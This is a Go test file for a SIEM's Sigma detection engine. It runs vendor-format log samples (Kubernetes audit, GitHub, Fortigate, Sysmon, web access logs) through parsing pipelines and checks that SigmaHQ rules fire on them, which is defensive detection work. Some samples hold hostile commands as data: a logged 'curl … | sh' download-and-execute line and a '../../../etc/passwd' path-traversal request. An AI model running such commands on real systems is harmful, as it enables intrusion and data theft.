package sigma_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vigilsiem/vigil/internal/detect/sigma"
	"github.com/vigilsiem/vigil/internal/event"
	"github.com/vigilsiem/vigil/internal/normalize"
	_ "github.com/vigilsiem/vigil/internal/normalize/all"
	"github.com/vigilsiem/vigil/internal/normalize/ingest"
	"github.com/vigilsiem/vigil/internal/normalize/pipelines"
	"github.com/vigilsiem/vigil/internal/parse"
	"github.com/vigilsiem/vigil/internal/pipeline"
	"github.com/vigilsiem/vigil/internal/testutil"
)

// pipelineEvent runs one raw line through what serve runs: the parser
// ("auto"), the Go normalisers, then the built-in pipelines; it fails the
// test unless the pipeline named takes the line.
func pipelineEvent(t *testing.T, set *ingest.Set, want, line string) *event.Event {
	t.Helper()
	now := time.Date(2025, 4, 15, 12, 0, 0, 0, time.UTC)
	ps, err := parse.New("auto", parse.Options{Now: func() time.Time { return now }})
	if err != nil {
		t.Fatal(err)
	}
	e := &event.Event{}
	if err := pipeline.ParseRecord(ps, event.DefaultTenant, "test", now, &pipeline.Record{Data: []byte(line)}, e); err != nil {
		t.Fatalf("parse %q: %v", line, err)
	}
	evs := []*event.Event{e}
	for _, p := range normalize.Processors(normalize.BeforePipelines) {
		if evs = p.Process(context.Background(), evs); len(evs) != 1 {
			t.Fatalf("normaliser %s dropped %q", p.Name(), line)
		}
	}
	e = evs[0]
	name, dropped, err := set.Run(e)
	if err != nil || dropped || name != want {
		t.Fatalf("pipeline %q took %q (dropped %v, err %v), want %s", name, line, dropped, err, want)
	}
	return e
}

// TestProductMappingsPipelines holds the Sigma mapping of each product a
// built-in pipeline normalises to one event known to be true: the line,
// written from the vendor's documentation, runs through the real pipeline,
// and a real SigmaHQ rule fires on it; the same line with the one value
// the rule is about changed (false) does not fire it.
func TestProductMappingsPipelines(t *testing.T) {
	rules := testutil.SharedData(t, "sigma/rules")
	ps, err := pipelines.Load()
	if err != nil {
		t.Fatal(err)
	}
	set, err := ingest.NewSet(nil, ps)
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		product, rule, pipeline string
		line, false             string
	}{
		{"kubernetes", "application/kubernetes/audit/kubernetes_audit_exec_into_container.yml", "kubernetes.audit",
			`{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"7c1d6e0a","stage":"ResponseStarted","requestURI":"/api/v1/namespaces/payments/pods/api-0/exec?command=sh&container=api&stdin=true&tty=true","verb":"create","user":{"username":"alice@example.com","groups":["system:authenticated"]},"sourceIPs":["198.51.100.14"],"userAgent":"kubectl/v1.30.1","objectRef":{"resource":"pods","namespace":"payments","name":"api-0","apiVersion":"v1","subresource":"exec"},"responseStatus":{"metadata":{},"code":101},"requestReceivedTimestamp":"2024-06-04T12:00:01.120345Z","stageTimestamp":"2024-06-04T12:00:01.180912Z"}`,
			`{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"7c1d6e0a","stage":"ResponseStarted","requestURI":"/api/v1/namespaces/payments/pods/api-0/log?container=api","verb":"create","user":{"username":"alice@example.com","groups":["system:authenticated"]},"sourceIPs":["198.51.100.14"],"userAgent":"kubectl/v1.30.1","objectRef":{"resource":"pods","namespace":"payments","name":"api-0","apiVersion":"v1","subresource":"log"},"responseStatus":{"metadata":{},"code":101},"requestReceivedTimestamp":"2024-06-04T12:00:01.120345Z","stageTimestamp":"2024-06-04T12:00:01.180912Z"}`},
		{"kubernetes/apiGroup", "application/kubernetes/audit/kubernetes_audit_rbac_permisions_listing.yml", "kubernetes.audit",
			`{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"1b2c","stage":"ResponseComplete","requestURI":"/apis/authorization.k8s.io/v1/selfsubjectrulesreviews","verb":"create","user":{"username":"system:serviceaccount:web:default"},"sourceIPs":["10.244.1.17"],"objectRef":{"resource":"selfsubjectrulesreviews","apiGroup":"authorization.k8s.io","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":201},"stageTimestamp":"2024-06-04T12:00:01.180912Z"}`,
			`{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"1b2c","stage":"ResponseComplete","requestURI":"/apis/authorization.k8s.io/v1/selfsubjectrulesreviews","verb":"create","user":{"username":"system:serviceaccount:web:default"},"sourceIPs":["10.244.1.17"],"objectRef":{"resource":"selfsubjectrulesreviews","apiGroup":"rbac.authorization.k8s.io","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":201},"stageTimestamp":"2024-06-04T12:00:01.180912Z"}`},
		{"kubernetes/hostPath", "application/kubernetes/audit/kubernetes_audit_hostpath_mount.yml", "kubernetes.audit",
			`{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"5e2f","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/default/pods","verb":"create","user":{"username":"alice@example.com"},"sourceIPs":["198.51.100.14"],"objectRef":{"resource":"pods","namespace":"default","name":"debug","apiVersion":"v1"},"requestObject":{"kind":"Pod","apiVersion":"v1","metadata":{"name":"debug"},"spec":{"volumes":[{"name":"host","hostPath":{"path":"/","type":"Directory"}}],"containers":[{"name":"debug","image":"alpine:3.20","securityContext":{"capabilities":{"add":["SYS_ADMIN","NET_ADMIN"]}}}]}},"responseStatus":{"metadata":{},"code":201},"stageTimestamp":"2024-06-04T12:00:01.180912Z"}`,
			`{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"5e2f","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/default/pods","verb":"create","user":{"username":"alice@example.com"},"sourceIPs":["198.51.100.14"],"objectRef":{"resource":"pods","namespace":"default","name":"debug","apiVersion":"v1"},"requestObject":{"kind":"Pod","apiVersion":"v1","metadata":{"name":"debug"},"spec":{"volumes":[{"name":"cfg","configMap":{"name":"app"}}],"containers":[{"name":"debug","image":"alpine:3.20","securityContext":{"capabilities":{"add":["SYS_ADMIN","NET_ADMIN"]}}}]}},"responseStatus":{"metadata":{},"code":201},"stageTimestamp":"2024-06-04T12:00:01.180912Z"}`},
		{"kubernetes/capabilities", "application/kubernetes/audit/kubernetes_audit_privileged_pod_creation.yml", "kubernetes.audit",
			`{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"5e2f","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/default/pods","verb":"create","user":{"username":"alice@example.com"},"sourceIPs":["198.51.100.14"],"objectRef":{"resource":"pods","namespace":"default","name":"debug","apiVersion":"v1"},"requestObject":{"kind":"Pod","apiVersion":"v1","metadata":{"name":"debug"},"spec":{"volumes":[{"name":"host","hostPath":{"path":"/","type":"Directory"}}],"containers":[{"name":"debug","image":"alpine:3.20","securityContext":{"capabilities":{"add":["SYS_ADMIN","NET_ADMIN"]}}}]}},"responseStatus":{"metadata":{},"code":201},"stageTimestamp":"2024-06-04T12:00:01.180912Z"}`,
			`{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"5e2f","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/default/pods","verb":"create","user":{"username":"alice@example.com"},"sourceIPs":["198.51.100.14"],"objectRef":{"resource":"pods","namespace":"default","name":"debug","apiVersion":"v1"},"requestObject":{"kind":"Pod","apiVersion":"v1","metadata":{"name":"debug"},"spec":{"volumes":[{"name":"host","hostPath":{"path":"/","type":"Directory"}}],"containers":[{"name":"debug","image":"alpine:3.20"}]}},"responseStatus":{"metadata":{},"code":201},"stageTimestamp":"2024-06-04T12:00:01.180912Z"}`},
		{"github", "application/github/audit/github_disable_high_risk_configuration.yml", "github.audit",
			`{"@timestamp":1714138627000,"_document_id":"Q3pV2bQ4d1s","action":"org.disable_two_factor_requirement","actor":"octocat","actor_id":1,"actor_ip":"198.51.100.20","created_at":1714138627000,"operation_type":"modify","org":"example-org","org_id":7,"user_agent":"Mozilla/5.0"}`,
			`{"@timestamp":1714138627000,"_document_id":"Q3pV2bQ4d1s","action":"org.enable_two_factor_requirement","actor":"octocat","actor_id":1,"actor_ip":"198.51.100.20","created_at":1714138627000,"operation_type":"modify","org":"example-org","org_id":7,"user_agent":"Mozilla/5.0"}`},
		{"bitbucket", "application/bitbucket/audit/bitbucket_audit_global_permissions_change_detected.yml", "atlassian.audit",
			`{"timestamp":"2025-04-15T08:10:00.000Z","author":{"name":"admin","type":"NORMAL","id":"2","uri":"http://bitbucket.internal:7990/users/admin"},"type":{"categoryI18nKey":"bitbucket.service.audit.category.permissions","category":"Permissions","actionI18nKey":"bitbucket.service.user.audit.action.globalpermissiongranted","action":"Global permission granted","level":"BASE","area":"PERMISSIONS"},"affectedObjects":[{"name":"p.novak","type":"USER"}],"changedValues":[],"source":"198.51.100.9","system":"http://bitbucket.internal:7990","method":"Browser"}`,
			`{"timestamp":"2025-04-15T08:10:00.000Z","author":{"name":"admin","type":"NORMAL","id":"2","uri":"https://jira.example.com/secure/ViewProfile.jspa?name=admin"},"type":{"categoryI18nKey":"jira.auditing.category.permissions","category":"Permissions","actionI18nKey":"jira.auditing.global.permission.granted","action":"Global permission granted","level":"BASE","area":"PERMISSIONS"},"affectedObjects":[{"name":"p.novak","type":"USER"}],"changedValues":[],"source":"198.51.100.9","system":"https://jira.example.com","method":"Browser"}`},
		{"fortigate", "network/fortinet/fortigate/fortinet_fortigate_new_admin_account_created.yml", "fortinet.fortigate",
			`<189>date=2024-05-10 time=12:05:11 devname="FGT60E-HQ" devid="FGT60E4Q16000001" logid="0100044547" type="event" subtype="system" level="information" vd="root" logdesc="Object attribute configured" user="admin" ui="GUI(198.51.100.7)" action="Add" cfgtid=1234 cfgpath="system.admin" cfgobj="backdoor" cfgattr="accprofile[super_admin]" msg="Add system.admin backdoor"`,
			`<189>date=2024-05-10 time=12:05:11 devname="FGT60E-HQ" devid="FGT60E4Q16000001" logid="0100044547" type="event" subtype="system" level="information" vd="root" logdesc="Object attribute configured" user="admin" ui="GUI(198.51.100.7)" action="Add" cfgtid=1234 cfgpath="system.interface" cfgobj="port5" cfgattr="alias[dmz]" msg="Add system.interface port5"`},
		{"proxy/cisco.wsa", "web/proxy_generic/proxy_raw_paste_service_access.yml", "cisco.wsa",
			`1714392011.150 97 10.10.20.31 TCP_MISS/200 8187 GET https://www.pastebin.com/raw/x1Y2z3 - DIRECT/www.pastebin.com text/plain DEFAULT_CASE_12-DefaultGroup-DefaultGroup-NONE-NONE-NONE-DefaultGroup <IW_comp,6.9,0,"-",0,0,0,-,"-",-,-,-,"-",-,-,"-","-",-,-,IW_comp,-,"-","-","Unknown","Unknown","-","-",198.34,0,-,[Local],"-",-,"-",-,-,"-","-"> -`,
			`1714392011.150 97 10.10.20.31 TCP_MISS/200 8187 GET https://www.pastebin.com/about - DIRECT/www.pastebin.com text/plain DEFAULT_CASE_12-DefaultGroup-DefaultGroup-NONE-NONE-NONE-DefaultGroup <IW_comp,6.9,0,"-",0,0,0,-,"-",-,-,-,"-",-,-,"-","-",-,-,IW_comp,-,"-","-","Unknown","Unknown","-","-",198.34,0,-,[Local],"-",-,"-",-,-,"-","-"> -`},
		{"linux/process_creation/sysmon", "linux/process_creation/proc_creation_lnx_susp_java_children.yml", "sysmon.linux",
			`<14>Apr 29 12:02:00 app01 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2024-04-29T12:02:00.000000000Z"/><EventRecordID>88</EventRecordID><Correlation/><Execution ProcessID="990" ThreadID="990"/><Channel>Linux-Sysmon/Operational</Channel><Computer>app01</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2024-04-29 12:02:00.000</Data><Data Name="ProcessGuid">{5b0d2b5f-0000-0000-0000-000000000001}</Data><Data Name="ProcessId">7001</Data><Data Name="Image">/usr/bin/bash</Data><Data Name="CommandLine">bash -c curl -s http://198.51.100.7/a | sh &amp;&amp; echo &quot;ok&quot;</Data><Data Name="CurrentDirectory">/opt/app</Data><Data Name="User">tomcat</Data><Data Name="ParentProcessId">6500</Data><Data Name="ParentImage">/usr/lib/jvm/java-17-openjdk/bin/java</Data><Data Name="ParentCommandLine">java -jar app.jar</Data></EventData></Event>`,
			`<14>Apr 29 12:02:00 app01 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2024-04-29T12:02:00.000000000Z"/><EventRecordID>88</EventRecordID><Correlation/><Execution ProcessID="990" ThreadID="990"/><Channel>Linux-Sysmon/Operational</Channel><Computer>app01</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2024-04-29 12:02:00.000</Data><Data Name="ProcessGuid">{5b0d2b5f-0000-0000-0000-000000000001}</Data><Data Name="ProcessId">7001</Data><Data Name="Image">/usr/bin/bash</Data><Data Name="CommandLine">bash -c curl -s http://198.51.100.7/a | sh &amp;&amp; echo &quot;ok&quot;</Data><Data Name="CurrentDirectory">/opt/app</Data><Data Name="User">tomcat</Data><Data Name="ParentProcessId">6500</Data><Data Name="ParentImage">/usr/bin/python3</Data><Data Name="ParentCommandLine">python3 app.py</Data></EventData></Event>`},
		{"antivirus/cisco.secure_endpoint", "category/antivirus/av_ransomware.yml", "cisco.secure_endpoint",
			`{"id":1714392100000000004,"timestamp":1714392100,"date":"2024-04-29T12:01:40+00:00","event_type":"Threat Detected","event_type_id":1090519054,"detection":"W32.Ransomware.LockBit.Talos","connector_guid":"9b2f1c4e-1d2a-4c55-8e7a-0a1b2c3d4e5f","severity":"Critical","computer":{"connector_guid":"9b2f1c4e-1d2a-4c55-8e7a-0a1b2c3d4e5f","hostname":"WS-FIN-017.corp.example.com","external_ip":"203.0.113.44","user":"jsmith@WS-FIN-017","active":true},"file":{"disposition":"Malicious","file_name":"svch0st.exe","file_path":"C:\\Users\\jsmith\\AppData\\Local\\Temp\\svch0st.exe","identity":{"sha256":"bb11bb11bb11bb11bb11bb11bb11bb11bb11bb11bb11bb11bb11bb11bb11bb11"}}}`,
			`{"id":1714392100000000004,"timestamp":1714392100,"date":"2024-04-29T12:01:40+00:00","event_type":"Threat Detected","event_type_id":1090519054,"detection":"W32.GenericKD.Trojan.Talos","connector_guid":"9b2f1c4e-1d2a-4c55-8e7a-0a1b2c3d4e5f","severity":"Critical","computer":{"connector_guid":"9b2f1c4e-1d2a-4c55-8e7a-0a1b2c3d4e5f","hostname":"WS-FIN-017.corp.example.com","external_ip":"203.0.113.44","user":"jsmith@WS-FIN-017","active":true},"file":{"disposition":"Malicious","file_name":"svch0st.exe","file_path":"C:\\Users\\jsmith\\AppData\\Local\\Temp\\svch0st.exe","identity":{"sha256":"bb11bb11bb11bb11bb11bb11bb11bb11bb11bb11bb11bb11bb11bb11bb11bb11"}}}`},
		{"cisco/duo", "identity/cisco_duo/cisco_duo_mfa_bypass_via_bypass_code.yml", "cisco.duo",
			`{"access_device":{"ip":"198.51.100.40","hostname":"ws-17","os":"Windows"},"application":{"key":"DIY231J8BR23QK4UKBY8","name":"Microsoft RDP"},"auth_device":{"name":"null"},"event_type":"authentication","factor":"bypass_code","isotimestamp":"2025-04-15T08:00:00.000000+00:00","reason":"bypass_user","result":"success","timestamp":1744704000,"txid":"340a23e3-23f3-4e26-8d5e-3c3f9d0c8a2b","user":{"key":"DU3KC77WJ06Y5HIV7XKQ","name":"narroway"}}`,
			`{"access_device":{"ip":"198.51.100.40","hostname":"ws-17","os":"Windows"},"application":{"key":"DIY231J8BR23QK4UKBY8","name":"Microsoft RDP"},"auth_device":{"name":"iphone"},"event_type":"authentication","factor":"duo_push","isotimestamp":"2025-04-15T08:00:00.000000+00:00","reason":"user_approved","result":"success","timestamp":1744704000,"txid":"340a23e3-23f3-4e26-8d5e-3c3f9d0c8a2b","user":{"key":"DU3KC77WJ06Y5HIV7XKQ","name":"narroway"}}`},
		{"cisco/aaa", "network/cisco/aaa/cisco_cli_clear_logs.yml", "cisco.ios",
			`<189>4512: rtr1: *May 10 11:37:47.123: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:clear logging`,
			`<189>4512: rtr1: *May 10 11:37:47.123: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:show logging`},
		{"cisco/bgp", "network/cisco/bgp/cisco_bgp_md5_auth_failed.yml", "cisco.ios",
			`<187>812: rtr1: May 10 11:40:00.000 UTC: %IP-TCP-3-BADAUTH: Invalid MD5 digest from 192.0.2.9:179 to 192.0.2.1:40213`,
			`<187>812: rtr1: May 10 11:40:00.000 UTC: %IP-TCP-3-BADAUTH: Invalid MD5 digest from 192.0.2.9:646 to 192.0.2.1:40213`},
		{"huawei/bgp", "network/huawei/bgp/huawei_bgp_auth_failed.yml", "huawei.vrp",
			`<188>May 10 2024 13:37:47 HUAWEI %%01BGP/3/BGP_AUTH_FAILED(l)[0]:BGP authentication failed. (SourceIpAddress=192.0.2.1:179, Reason=TCP MD5 authentication failed)`,
			`<188>May 10 2024 13:37:47 HUAWEI %%01BGP/3/BGP_AUTH_FAILED(l)[0]:BGP authentication failed. (SourceIpAddress=192.0.2.1:49152, Reason=TCP MD5 authentication failed)`},
		{"onelogin", "identity/onelogin/onelogin_assumed_another_user.yml", "onelogin.events",
			`{"id":999999999,"created_at":"2025-04-15T08:30:12.000Z","account_id":123456,"user_id":44001,"event_type_id":3,"ipaddr":"198.51.100.23","actor_user_id":10001,"actor_user_name":"Ada Admin","user_name":"Pat Novak"}`,
			`{"id":999999999,"created_at":"2025-04-15T08:30:12.000Z","account_id":123456,"user_id":44001,"event_type_id":5,"ipaddr":"198.51.100.23","actor_user_id":10001,"actor_user_name":"Ada Admin","user_name":"Pat Novak"}`},
		{"opencanary", "application/opencanary/opencanary_ssh_login_attempt.yml", "opencanary",
			`{"dst_host": "10.0.0.5", "dst_port": 22, "local_time": "2024-03-08 10:02:00.000000", "logdata": {"LOCALVERSION": "SSH-2.0-OpenSSH_5.1p1 Debian-4", "PASSWORD": "123456", "REMOTEVERSION": "SSH-2.0-libssh2_1.11.0", "USERNAME": "root"}, "logtype": 4002, "node_id": "opencanary-1", "src_host": "198.51.100.7", "src_port": 51422, "utc_time": "2024-03-08 10:02:00.000000"}`,
			`{"dst_host": "10.0.0.5", "dst_port": 22, "local_time": "2024-03-08 10:02:00.000000", "logdata": {"LOCALVERSION": "SSH-2.0-OpenSSH_5.1p1 Debian-4", "REMOTEVERSION": "SSH-2.0-libssh2_1.11.0"}, "logtype": 4001, "node_id": "opencanary-1", "src_host": "198.51.100.7", "src_port": 51422, "utc_time": "2024-03-08 10:02:00.000000"}`},
		{"webserver/traefik", "web/webserver_generic/web_path_traversal_exploitation_attempt.yml", "traefik.access",
			`{"ClientHost":"198.51.100.77","ClientPort":"40110","DownstreamContentSize":19,"DownstreamStatus":404,"Duration":402311,"RequestHost":"files.example.com","RequestMethod":"GET","RequestPath":"/download?file=../../../etc/passwd","RequestProtocol":"HTTP/1.1","RequestScheme":"https","RouterName":"files@docker","StartUTC":"2025-04-15T08:00:00Z","entryPointName":"websecure"}`,
			`{"ClientHost":"198.51.100.77","ClientPort":"40110","DownstreamContentSize":19,"DownstreamStatus":404,"Duration":402311,"RequestHost":"files.example.com","RequestMethod":"GET","RequestPath":"/download?file=report.pdf","RequestProtocol":"HTTP/1.1","RequestScheme":"https","RouterName":"files@docker","StartUTC":"2025-04-15T08:00:00Z","entryPointName":"websecure"}`},
		{"webserver/caddy", "web/webserver_generic/web_susp_useragents.yml", "caddy.access",
			`{"level":"info","ts":1744704000.5,"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"198.51.100.78","remote_port":"50110","client_ip":"198.51.100.78","proto":"HTTP/1.1","method":"GET","host":"www.example.com","uri":"/.git/config","headers":{"User-Agent":["Mozilla/5.0 (compatible; Nikto/2.5.0)"]}},"bytes_read":0,"user_id":"","duration":0.0009,"size":0,"status":404}`,
			`{"level":"info","ts":1744704000.5,"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"198.51.100.78","remote_port":"50110","client_ip":"198.51.100.78","proto":"HTTP/1.1","method":"GET","host":"www.example.com","uri":"/.git/config","headers":{"User-Agent":["Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"]}},"bytes_read":0,"user_id":"","duration":0.0009,"size":0,"status":404}`},
		{"proxy/envoy", "web/proxy_generic/proxy_ua_hacktool.yml", "envoy.access",
			`[2025-04-15T08:00:00.000Z] "GET /login.php HTTP/1.1" 401 - 0 19 3 2 "203.0.113.50" "Mozilla/5.0 (Hydra)" "5f3c1a2b-77d4-4e0e-9a41-0c2d3e4f5a6b" "portal.example.com" "10.0.4.12:8080"`,
			`[2025-04-15T08:00:00.000Z] "GET /login.php HTTP/1.1" 401 - 0 19 3 2 "203.0.113.50" "Mozilla/5.0 (Windows NT 10.0; Win64; x64)" "5f3c1a2b-77d4-4e0e-9a41-0c2d3e4f5a6b" "portal.example.com" "10.0.4.12:8080"`},
	}
	for _, c := range cases {
		t.Run(c.product, func(t *testing.T) {
			b, err := os.ReadFile(filepath.Join(rules, c.rule))
			if err != nil {
				t.Fatal(err)
			}
			r, err := sigma.ParseRule(b)
			if err != nil {
				t.Fatal(err)
			}
			if u := r.UnmappedFields(); len(u) > 0 {
				t.Errorf("%s: unmapped fields %v", r.Title, u)
			}
			comp := sigma.NewCompiler(sigma.Config{})
			cr, err := comp.Compile(r)
			if err != nil {
				t.Fatal(err)
			}
			rs := comp.NewRuleSet([]*sigma.Compiled{cr})
			if e := pipelineEvent(t, set, c.pipeline, c.line); len(rs.Match(e, nil)) != 1 {
				t.Errorf("%s did not fire on %s", r.Title, fieldsOf(e))
			}
			if e := pipelineEvent(t, set, c.pipeline, c.false); len(rs.Match(e, nil)) != 0 {
				t.Errorf("%s fired on %s", r.Title, fieldsOf(e))
			}
		})
	}
}

// fieldsOf lists an event's fields for a failure message.
func fieldsOf(e *event.Event) string {
	var b strings.Builder
	for _, f := range e.Fields {
		fmt.Fprintf(&b, "\n  %s = %s", f.Name, f.Value.Text())
	}
	return b.String()
}
